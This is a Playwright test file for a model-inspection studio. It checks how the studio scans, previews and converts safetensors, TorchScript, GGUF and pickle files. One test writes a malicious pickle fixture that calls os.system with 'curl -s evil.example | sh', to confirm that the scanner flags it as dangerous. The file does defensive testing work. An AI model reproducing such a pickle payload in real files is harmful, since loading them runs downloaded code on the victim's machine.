// Model files of other formats in the studio, as a user drops them (docs/formats.md): what the file
// is, the scan verdict first, the tensor table with a value preview, the way to ONNX; and what stays
// closed until it is converted. Files come from the real libraries (torch) or spec writers (GGUF).
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { llamaKvs, writeGguf } from '../fixtures/gguf-writer';
import { PYTHON, PYTHON_SCRIPTS } from '../fixtures/python-run';
import { payload } from './pages/studio-page';
import { requireChromium } from './support/chromium';
import { seriousViolations } from './support/page-checks';
import { expect, test } from './support/fixtures';

requireChromium();

type Made = Record<'checkpoint' | 'torchscript' | 'safetensors', string>;
const make = (dir: string): Made =>
  JSON.parse(execFileSync(PYTHON, [join(PYTHON_SCRIPTS, 'make_foreign_models.py'), dir], { encoding: 'utf8' })) as Made;

test('a safetensors file opens in Inspect: what it is, safe, its tensors, a value preview; the later steps wait for ONNX', async ({
  host,
  studio,
  page,
  modelsDir,
}) => {
  const files = make(modelsDir);
  await studio.goto(host.url);
  await studio.dropFiles([payload(files.safetensors)]);
  await studio.expectState('ready');
  await expect(studio.header).toContainText('net.safetensors');
  await expect(page.getByTestId('foreign-what')).toHaveText(/^safetensors weights \(no graph\): 4 tensors/);
  await expect(page.getByTestId('scan-card')).toHaveAttribute('data-verdict', 'safe');
  const table = page.getByTestId('foreign-tensors');
  await expect(table.locator('tbody tr')).toHaveCount(4);
  await expect(table.locator('tbody tr').nth(2)).toContainText('fc.weight');
  await expect(table.locator('tbody tr').nth(2)).toContainText('5 × 256');
  await page.getByRole('button', { name: 'Preview values of conv.bias' }).click();
  const preview = page.getByTestId('foreign-preview');
  await expect(preview).toContainText('First 4 of 4 values');
  await expect(studio.step('Metadata')).toBeDisabled();
  await expect(studio.step('Metadata')).toHaveAttribute('title', 'Convert it to ONNX first');
  // safetensors holds no graph: Convert says why, gives the code to export it with its class, and offers no button.
  await expect(page.getByTestId('convert-reason')).toContainText(/holds only weights/);
  await expect(page.getByTestId('convert-snippet')).toContainText('load_file(');
  await expect(page.getByRole('button', { name: 'Convert to ONNX' })).toHaveCount(0);
});

test('a pickle that runs a shell command is shown as dangerous, with the call and its offset, and is never converted', async ({
  host,
  studio,
  page,
  modelsDir,
}) => {
  // Protocol 0, the classic payload: GLOBAL os.system, then REDUCE with the command.
  const evil = join(modelsDir, 'classifier.pkl');
  writeFileSync(evil, "cos\nsystem\n(S'curl -s evil.example | sh'\ntR.", 'latin1');
  await studio.goto(host.url);
  await studio.dropFiles([payload(evil)]);
  await studio.expectState('ready');
  const card = page.getByTestId('scan-card');
  await expect(card).toHaveAttribute('data-verdict', 'dangerous');
  const findings = page.getByTestId('scan-findings');
  await expect(findings).toContainText('os.system');
  await expect(findings).toContainText('curl -s evil.example | sh');
  await expect(findings).toContainText(/GLOBAL/);
  await expect(page.getByTestId('convert-reason')).toContainText(/never converted/);
  await expect(page.getByRole('button', { name: 'Convert to ONNX' })).toHaveCount(0);
  for (const scheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme: scheme });
    expect(await seriousViolations(page), scheme).toEqual([]);
  }
});

test('a TorchScript file converts to ONNX with the local torch: shapes given, parity checked, and the wizard goes on with the ONNX model', async ({
  host,
  studio,
  page,
  modelsDir,
}) => {
  // A cold torch import and export on a loaded 2-core CI machine can take most of a minute.
  test.setTimeout(180_000);
  const files = make(modelsDir);
  await studio.goto(host.url);
  await studio.dropFiles([payload(files.torchscript)]);
  await studio.expectState('ready');
  await expect(page.getByTestId('scan-card')).toHaveAttribute('data-verdict', 'safe');
  await expect(page.getByTestId('convert-python')).toContainText(/torch \d/);
  const convert = page.getByRole('button', { name: 'Convert to ONNX' });
  // TorchScript keeps forward()'s argument names but no shapes: nothing runs until one is given.
  await expect(page.getByTestId('foreign-io')).toContainText('Tensor');
  await expect(page.getByLabel('Input 1 name')).toHaveValue('x');
  await expect(convert).toBeDisabled();
  await page.getByLabel('Input 1 shape').fill('1x3x8x8');
  await expect(convert).toBeEnabled();
  await convert.click();
  const result = page.getByTestId('convert-result');
  await expect(result).toHaveAttribute('data-parity', 'passed', { timeout: 120_000 });
  await expect(result.getByRole('table', { name: 'Parity: framework against onnxruntime' })).toContainText('within');
  for (const scheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme: scheme });
    expect(await seriousViolations(page), scheme).toEqual([]);
  }
  await result.getByRole('button', { name: 'Continue with the ONNX model' }).click();
  await expect(studio.header).toContainText('net_scripted.onnx');
  await expect(studio.step('Metadata')).toBeEnabled();
});

test('a GGUF model shows its key/values and quantization types', async ({ host, studio, page, modelsDir }) => {
  const path = writeGguf(join(modelsDir, 'tiny-llama.gguf'), {
    kvs: llamaKvs(1, 100),
    tensors: [
      { name: 'token_embd.weight', type: 'Q4_0', ne: [64, 100] },
      { name: 'output_norm.weight', type: 'F32', ne: [64] },
    ],
  });
  await studio.goto(host.url);
  await studio.dropFiles([payload(path)]);
  await studio.expectState('ready');
  await expect(page.getByTestId('foreign-what')).toHaveText(/^GGUF model for llama\.cpp: llama/);
  await expect(page.getByRole('region', { name: 'Key/values' })).toContainText('llama.context_length');
  await expect(page.getByRole('region', { name: 'Quantization types' })).toContainText('Q4_0');
  await page.getByRole('button', { name: 'Preview values of token_embd.weight' }).click();
  await expect(page.getByTestId('foreign-preview')).toContainText(/quantized/i);
});
